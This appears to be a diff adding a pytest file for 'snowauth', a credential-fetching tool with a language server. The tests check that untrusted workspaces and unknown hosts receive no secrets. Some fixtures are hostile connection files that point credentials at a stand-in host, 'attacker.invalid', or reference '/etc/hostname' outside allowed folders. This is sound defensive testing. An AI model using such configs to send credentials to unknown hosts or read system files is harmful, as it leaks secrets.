@@ -1,0 +1,149 @@
+"""The defences of SECURITY.md: a connection file is untrusted input."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
+
+import pytest
+import pytest_lsp
+from lsprotocol import types as t
+from pygls.exceptions import JsonRpcException
+from pytest_lsp import ClientServerConfig, LanguageClient, client_capabilities
+
+from snowauth.analysis import analyze
+from snowauth.emulator import Emulator
+from snowauth.secrets import Environment
+from snowauth.trust import KnownHosts
+from tests.lsp.editor import Editor
+
+CONFIG = Path(os.environ.get("TMPDIR", "/tmp")) / f"snowauth-security-config-{os.getpid()}"
+FOLDER = Path(os.environ.get("TMPDIR", "/tmp")) / f"snowauth-security-{os.getpid()}"
+URI = (FOLDER / "s.snowauth.toml").as_uri()
+SECRET_ENV = {"SNOW_S_SECRET": "demo-client-secret", "SNOW_S_PASSWORD": "demo-password"}
+
+
+@pytest.fixture
+def emulator() -> Iterator[Emulator]:
+    with Emulator() as emu:
+        yield emu
+
+
+@pytest_lsp.fixture(
+    config=ClientServerConfig(
+        server_command=[sys.executable, "-m", "snowauth", "lsp"],
+        server_env={**os.environ, **SECRET_ENV, "SNOWAUTH_CONFIG_DIR": str(CONFIG)},
+    ),
+    params=["trusted", "untrusted"],
+)
+async def client(request: pytest.FixtureRequest, lsp_client: LanguageClient) -> AsyncIterator[LanguageClient]:
+    FOLDER.mkdir(exist_ok=True)
+    options = {"trusted": request.param == "trusted"}
+    caps = client_capabilities("visual-studio-code")
+    caps.experimental = {"snowauth": {"promptSecret": True}}
+    await lsp_client.initialize_session(t.InitializeParams(capabilities=caps, initialization_options=options))
+    lsp_client.trusted_workspace = request.param == "trusted"  # type: ignore[attr-defined]
+    yield lsp_client
+    await lsp_client.shutdown_session()
+
+
+def conn(instance: str, password: str = "${env:SNOW_S_PASSWORD}") -> str:
+    return f"""[connections.dev]
+instance = "{instance}"
+grant_type = "password"
+client_id = "0123456789abcdef0123456789abcdef"
+client_secret = "${{env:SNOW_S_SECRET}}"
+username = "integration.user"
+password = "{password}"
+"""
+
+
+async def fetch(client: LanguageClient) -> object:
+    return await client.workspace_execute_command_async(
+        t.ExecuteCommandParams(command="snowauth.fetchToken", arguments=[{"uri": URI, "connection": "dev"}])
+    )
+
+
+async def test_untrusted_workspaces_never_send(client: LanguageClient, emulator: Emulator) -> None:
+    editor = Editor(client)
+    editor.open(URI, conn(emulator.url))
+    if client.trusted_workspace:  # type: ignore[attr-defined]
+        assert isinstance(await fetch(client), dict)
+        assert emulator.token_requests == 1
+        return
+    with pytest.raises(JsonRpcException, match="not trusted"):
+        await fetch(client)
+    assert emulator.token_requests == 0 and emulator.requests == []
+
+
+async def test_a_new_host_needs_confirmation_before_any_secret_is_read(client: LanguageClient) -> None:
+    if not client.trusted_workspace:  # type: ignore[attr-defined]
+        return
+    asked: list[str] = []
+    answers = iter([None, t.MessageActionItem("Send")])
+
+    @client.feature(t.WINDOW_SHOW_MESSAGE_REQUEST)
+    def request(*args: object) -> t.MessageActionItem | None:
+        params = args[-1]
+        assert isinstance(params, t.ShowMessageRequestParams)
+        asked.append(params.message)
+        return next(answers)
+
+    prompts: list[object] = []
+
+    @client.feature("snowauth/promptSecret")
+    def prompt(*args: object) -> dict[str, str]:
+        prompts.append(args[-1])
+        return {"value": "typed-password"}
+
+    editor = Editor(client)
+    editor.open(URI, conn("https://attacker.invalid", password="${prompt}"))
+    with pytest.raises(JsonRpcException, match="Nothing was sent"):
+        await fetch(client)
+    assert len(asked) == 1 and "https://attacker.invalid:443" in asked[0]
+    assert prompts == []  # declined before the password was even asked for
+    with pytest.raises(JsonRpcException, match="attacker.invalid"):  # confirmed: it tries (DNS fails)
+        await fetch(client)
+    assert len(asked) == 2 and len(prompts) == 1
+    assert KnownHosts(CONFIG).trusted("https://attacker.invalid")
+    with pytest.raises(JsonRpcException):
+        await fetch(client)
+    assert len(asked) == 2  # remembered: not asked again
+
+
+async def test_file_references_stay_in_the_connection_folder(client: LanguageClient, emulator: Emulator) -> None:
+    if not client.trusted_workspace:  # type: ignore[attr-defined]
+        return
+    editor = Editor(client)
+    editor.open(URI, conn(emulator.url, password="${file:/etc/hostname}"))
+    with pytest.raises(JsonRpcException, match="outside the folders snowauth may read"):
+        await fetch(client)
+    assert emulator.token_requests == 0
+
+
+def test_analysis_warns_and_the_roots_variable_allows(tmp_path: Path) -> None:
+    outside = tmp_path / "elsewhere"
+    outside.mkdir()
+    (outside / "pw.txt").write_text("demo-password\n", encoding="utf-8")
+    folder = tmp_path / "repo"
+    folder.mkdir()
+    text = conn("dev12345", password=f"${{file:{outside / 'pw.txt'}}}")
+    found = analyze(text, Environment({}, folder)).findings
+    assert any(f.code == "unresolved-reference" and "outside the folders" in f.message for f in found)
+    allowed = analyze(text, Environment({"SNOWAUTH_FILE_ROOTS": str(outside)}, folder)).findings
+    assert not any("outside the folders" in f.message for f in allowed)
+
+
+def test_cli_refuses_an_unknown_host_without_a_terminal(tmp_path: Path) -> None:
+    path = tmp_path / "c.snowauth.toml"
+    path.write_text(conn("https://attacker.invalid"), encoding="utf-8")
+    env = {**os.environ, **SECRET_ENV, "SNOWAUTH_CONFIG_DIR": str(tmp_path / "config")}
+    run = [sys.executable, "-m", "snowauth", "token", str(path)]
+    out = subprocess.run(run, env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL, check=False)
+    assert out.returncode == 1 and "has not sent credentials to https://attacker.invalid:443" in out.stderr
+    env["SNOWAUTH_TRUSTED_HOSTS"] = "attacker.invalid"
+    out = subprocess.run(run, env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL, check=False)
+    assert out.returncode == 1 and "attacker.invalid" in out.stderr and "has not sent" not in out.stderr
